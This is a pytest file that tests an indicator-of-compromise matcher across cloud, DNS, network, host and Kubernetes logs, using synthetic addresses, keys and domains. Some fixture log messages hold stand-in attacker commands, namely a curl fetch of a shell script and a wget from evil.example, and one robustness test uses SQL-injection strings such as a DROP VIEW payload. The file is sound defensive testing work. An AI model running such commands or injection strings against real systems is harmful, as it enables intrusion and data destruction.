"""Known indicators in the events of every family: what matches, what must not, and what is said of it."""

import json
from datetime import UTC, datetime

import pyarrow as pa
import pytest

from analyzers import Asked, Indicator, Material, analyzers
from analyzers.results import result_hash
from analyzers.stix.kinds import KINDS
from events import FAMILIES, Filters, open_events
from plugins import Window

from .building import ROLE, START, as_file, reader_of, records

MALLORY = "arn:aws:iam::111122223333:user/mallory"
SHA = "a" * 64


def rows(family, *told):
    """Rows of a family, a minute apart; what is not told is null."""
    schema = FAMILIES[family].schema
    made = []
    for number, one in enumerate(told):
        place = {
            "evidence": "FP-2026-000001-E0002",
            "part": 1,
            "member": 0,
            "src_file": f"{family}.log",
            "src_row": number,
        }
        at = datetime(2026, 3, 1, 11, number, tzinfo=UTC).replace(tzinfo=None)
        made.append(dict.fromkeys(schema.names) | place | {"event_time": at, "event_id": f"{family}-{number}"} | one)
    return pa.RecordBatch.from_pylist(made, schema=schema)


@pytest.fixture
def among(tmp_path):
    """A reader of rows of several families, given by name."""

    def make(**families):
        store = open_events(tmp_path.as_uri(), "FP-2026-000001")
        staged = [store.stage(f"staged-{name}", name, [rows(name, *told)]) for name, told in families.items()]
        return store.reader(store.index(staged).name)

    return make


def ask(reader, *known, **more):
    indicators = tuple(Indicator(kind, value, "bad", "feed.csv") for kind, value in known)
    *findings, asked = analyzers.get("indicators").analyze(Material(reader, indicators=indicators, **more))
    return findings, asked


def seen(reader, kind, *values):
    """The values that were seen, with their numbers of events."""
    findings, asked = ask(reader, *((kind, value) for value in values))
    assert asked == Asked(f"indicators {kind}", "1", len(findings))
    return {finding.entity.value: finding.count for finding in findings}


def test_an_address_is_found_wherever_a_log_has_one(among):
    reader = among(
        cloudtrail=[{"source_ip_address": "203.0.113.7"}, {"request_parameters": '{"cidrIp":"203.0.113.7/32"}'}],
        network_flows=[
            {"srcaddr": "203.0.113.7", "dstaddr": "10.0.0.1", "pkt_srcaddr": "203.0.113.7"},
            {"srcaddr": "10.0.0.1", "dstaddr": "203.0.113.7"},
            {"srcaddr": "10.0.0.1", "dstaddr": "10.0.0.2"},
        ],
        dns_queries=[
            {"answers": '[{"Rdata":"203.0.113.7","Type":"A"}]', "srcaddr": "10.0.0.1"},
            {"answers": "no json"},
        ],
        access_requests=[{"client_ip": "10.0.0.9", "x_forwarded_for": "203.0.113.7, 10.0.0.2"}],
        host_events=[{"source_ip": "203.0.113.7"}, {"message": "Connection from 203.0.113.7 port 22"}],
        kubernetes_audit=[{"source_ips": '["10.0.0.1","203.0.113.7"]', "source_ip": "10.0.0.1"}],
        alerts=[{"remote_ip": "203.0.113.7"}],
    )
    [finding], _ = ask(reader, ("ipv4-addr", "203.0.113.7"))
    assert finding.count == 10
    assert finding.facts["families"] == {
        "access_requests": 1, "alerts": 1, "cloudtrail": 2, "dns_queries": 1, "host_events": 2, "kubernetes_audit": 1,
        "network_flows": 2,
    }  # fmt: skip
    assert reader.count(Filters.from_query(finding.query)) == 10


@pytest.mark.parametrize(
    ("network", "inside", "outside"),
    [
        ("203.0.113.0/24", "203.0.113.255", "203.0.114.0"),
        ("203.0.113.32/27", "203.0.113.63", "203.0.113.64"),
        ("10.0.0.0/8", "10.255.0.1", "10.example.com"),
        ("128.0.0.0/1", "200.1.1.1", "127.0.0.1"),
        ("2001:db8::/33", "2001:DB8:7fff::1", "2001:db8:8000::1"),
        ("2001:db8::1", "2001:0db8:0:0::0001", "2001:db8::10"),
    ],
)
def test_a_range_holds_its_addresses_and_no_others(among, network, inside, outside):
    kind = KINDS["ipv4-addr"](network)[0]
    reader = among(cloudtrail=[{"source_ip_address": inside}, {"source_ip_address": outside}])
    assert seen(reader, kind, network) == {network: 1}


def test_ranges_may_lie_in_each_other(among):
    reader = among(network_flows=[{"srcaddr": "203.0.113.7", "dstaddr": "203.0.113.9"}])
    known = ("203.0.113.0/24", "203.0.0.0/16", "203.0.113.7", "198.51.100.0/24")
    assert seen(reader, "ipv4-addr", *known) == dict.fromkeys(known[:3], 1)


def test_a_domain_is_found_with_those_below_it(among):
    reader = among(
        dns_queries=[
            {"query_name": "c2.Evil.example."},
            {"query_name": "evil.example.com."},
            {"query_name": "notevil.example."},
            {"query_name": "a.example.", "answers": '[{"Rdata":"x.evil.example.","Type":"CNAME"}]'},
        ],
        access_requests=[{"host": "evil.example"}],
        host_events=[{"message": "curl http://evil.example/x.sh"}],
    )
    assert seen(reader, "domain-name", "evil.example", "example.com", "evil.org") == {
        "evil.example": 4,
        "example.com": 1,
    }


def test_a_url_is_the_same_however_it_is_logged(among):
    reader = among(
        access_requests=[
            {"url": "HTTPS://Evil.example:443/a?b=1"},
            {"host": "evil.example", "path": "/a", "query": "b=1"},
            {"url": "https://evil.example/a?b=2"},
            {"url": "https://evil.example/A?b=1"},
            {"url": "/x", "host": "ours.example", "referer": "http://evil.example/a?b=1#top"},
        ],
        host_events=[
            {"message": "wget 'https://evil.example/a?b=1' "},
            {"message": 'get "https://evil.example/a?b=1"'},
        ],
    )
    assert seen(reader, "url", "https://evil.example/a?b=1") == {"https://evil.example/a?b=1": 4}


def test_a_hash_is_found_in_what_hosts_and_services_wrote(among):
    reader = among(
        host_events=[
            {"fields": json.dumps({"Hashes": f"SHA256={SHA.upper()},MD5={'b' * 32}"})},
            {"message": SHA + "a"},
        ],
        alerts=[{"detail": json.dumps({"threat": {"hash": SHA}})}],
    )
    assert seen(reader, "file", SHA, "b" * 32, "c" * 40) == {SHA: 2, "b" * 32: 1}


def test_an_access_key_is_found_in_use_when_issued_and_when_handled(among):
    key = "AKIAEXAMPLEMALLORY01"
    reader = among(
        cloudtrail=[
            {"user_identity_access_key_id": key},
            {"request_parameters": json.dumps({"accessKeyId": key})},
            {"response_elements": json.dumps({"accessKey": {"accessKeyId": key}})},
            {"user_identity_access_key_id": key.lower()},
        ],
        configuration_items=[{"resource_type": "AWS::IAM::AccessKey", "resource_id": key}],
    )
    assert seen(reader, "x-aws-access-key", key) == {key: 4}


@pytest.mark.parametrize(
    ("known", "events"),
    [(MALLORY, 1), ("mallory", 2), ("web", 1), (f"{ROLE}/web/i-0abc", 1), ("arn:aws:iam::1:role/web", 0)],
)
def test_a_principal_is_found_by_arn_or_by_name(among, known, events):
    reader = among(
        cloudtrail=[
            {"principal": MALLORY},
            {"principal": f"{ROLE}/web/i-0abc"},
            {"principal": "arn:aws:iam::1:user/mal"},
        ],
        host_events=[{"user_name": "mallory"}],
    )
    assert seen(reader, "user-account", known) == ({known: events} if events else {})


def test_a_user_agent_is_found_by_a_part_of_it(among):
    reader = among(cloudtrail=[{"user_agent": "aws-cli/2 KALI_x 100%"}, {"user_agent": "kaliXx"}, {"user_agent": None}])
    assert seen(reader, "user-agent", "kali_x 100%", "nmap") == {"kali_x 100%": 1}


def test_its_finding_says_whose_indicator_it_is_and_leads_to_its_events(tmp_path):
    reader = reader_of(
        tmp_path, as_file(records([{"userAgent": "Kali, 1"}, {"at": 5, "userAgent": "Kali, 1"}, {"at": 9}]))
    )
    [finding], _ = ask(reader, ("user-agent", "kali, 1"))
    assert (finding.question, finding.severity, finding.principals) == ("indicators", 4, (MALLORY,))
    assert "“bad”, is from feed.csv" in finding.explanation
    assert finding.first_at == START
    assert [(one.file, one.row, one.what) for one in finding.examples] == [
        ("log-0.json", 0, "DescribeInstances"),
        ("log-0.json", 1, "DescribeInstances"),
    ]
    assert reader.count(Filters.from_query(finding.query)) == 2


def test_its_examples_are_the_first_hundred_of_all_families(among):
    reader = among(
        cloudtrail=[{"source_ip_address": "203.0.113.7"}] * 60,
        network_flows=[{"srcaddr": "203.0.113.7"}] * 60,
    )
    [finding], _ = ask(reader, ("ipv4-addr", "203.0.113.7"))
    moments = [one.at for one in finding.examples]
    assert (finding.count, len(moments), moments == sorted(moments)) == (120, 100, True)


def test_a_window_bounds_it_and_rows_without_a_time_count_without_one(among):
    reader = among(
        cloudtrail=[{"source_ip_address": "203.0.113.7"}, {"source_ip_address": "203.0.113.7", "event_time": None}]
    )
    known = ("ipv4-addr", "203.0.113.7")
    assert ask(reader, known)[0][0].count == 2
    later = Window(datetime(2026, 3, 2, tzinfo=UTC), datetime(2026, 3, 3, tzinfo=UTC))
    assert ask(reader, known, window=later)[0] == []


def test_copies_are_not_counted_twice(tmp_path):
    one = records([{"sourceIPAddress": "203.0.113.7"}])
    [finding], _ = ask(reader_of(tmp_path, as_file(one), as_file(one)), ("ipv4-addr", "203.0.113.7"))
    assert finding.count == 1


def test_each_kind_is_asked_once_and_no_match_is_said(among):
    reader = among(cloudtrail=[{}])
    known = [
        Indicator("domain-name", "evil.example"),
        Indicator("ipv4-addr", "192.0.2.1"),
        Indicator("ipv4-addr", "192.0.2.2"),
    ]
    said = list(analyzers.get("indicators").analyze(Material(reader, indicators=tuple(known))))
    assert said == [Asked("indicators ipv4-addr", "1", 0), Asked("indicators domain-name", "1", 0)]


def test_without_indicators_it_says_that_nothing_was_asked(among):
    assert list(analyzers.get("indicators").analyze(Material(among(cloudtrail=[{}])))) == [Asked("indicators", "1", 0)]


@pytest.mark.parametrize("kind", KINDS)
def test_hostile_text_in_logs_and_values_breaks_nothing(among, kind):
    odd = ["'; DROP VIEW logs; --", "%_\\", "\u202e<b>", "{", "", "::::", "http://[", "x" * 5_000]
    reader = among(
        cloudtrail=[
            {"source_ip_address": one, "user_agent": one, "principal": one, "request_parameters": one} for one in odd
        ],
        dns_queries=[{"query_name": one, "answers": one} for one in odd],
        access_requests=[{"url": one, "host": one, "referer": one, "x_forwarded_for": one} for one in odd],
        host_events=[{"message": one, "fields": one} for one in odd],
    )
    value = {"ipv4-addr": "192.0.2.1", "ipv6-addr": "2001:db8::/32"}.get(kind, "'; drop \\ %_")
    findings, asked = ask(reader, (kind, value))
    assert (findings, asked.error) == ([], "")


def test_the_hash_of_its_result_follows_the_indicators_and_nothing_else(among):
    reader = among(cloudtrail=[{"source_ip_address": "203.0.113.7", "user_agent": "curl/8"}] * 3)

    def hashed(*known):
        return result_hash(analyzers.get("indicators").analyze(Material(reader, indicators=known)))

    address, agent = Indicator("ipv4-addr", "203.0.113.7"), Indicator("user-agent", "curl")
    assert hashed(address, agent) == hashed(address, agent)
    assert len({hashed(), hashed(address), hashed(agent), hashed(Indicator("ipv4-addr", "203.0.113.7", "x"))}) == 4


def test_a_question_that_takes_too_long_is_a_gap(among, monkeypatch):
    monkeypatch.setattr("analyzers.indicators.LONGEST", 1e-9)
    findings, asked = ask(among(cloudtrail=[{}]), ("domain-name", "evil.example"))
    assert (findings, asked.matches) == ([], 0)
    assert "took longer" in asked.error


def test_more_than_anybody_reads_are_counted(among, monkeypatch):
    for module in ("analyzers.indicators", "events.sightings"):
        monkeypatch.setattr(f"{module}.MOST", 1)
    reader = among(network_flows=[{"srcaddr": "192.0.2.1", "dstaddr": "192.0.2.2"}, {"srcaddr": "192.0.2.2"}])
    [finding], asked = ask(reader, ("ipv4-addr", "192.0.2.1"), ("ipv4-addr", "192.0.2.2"))
    assert (finding.entity.value, asked.matches) == ("192.0.2.2", 2)
    assert "2 were seen" in asked.error
